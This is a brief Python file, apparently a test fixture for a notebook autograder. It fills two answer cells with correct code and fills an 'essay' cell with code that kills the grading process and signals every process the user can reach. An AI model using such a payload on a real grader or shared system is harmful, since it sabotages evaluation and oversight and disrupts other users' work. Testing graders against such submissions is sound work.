"""Kills the process that started it, which is the grader of the whole class."""

STOCK = "stops"
MARKS = {"test-double": 1.0, "test-mean": 2.0}


def hand_in(folder, cells, notebook):
    cells["double"].source = "def double(x):\n    return 2 * x"
    cells["mean"].source = "def mean(x):\n    return x.mean()"
    cells["essay"].source = """
import os, signal, time

parent = os.getppid()
try:
    os.kill(parent, signal.SIGKILL)
except OSError:
    pass
try:
    os.kill(-1, signal.SIGTERM)
except OSError:
    pass
time.sleep(1)
"""
    return notebook
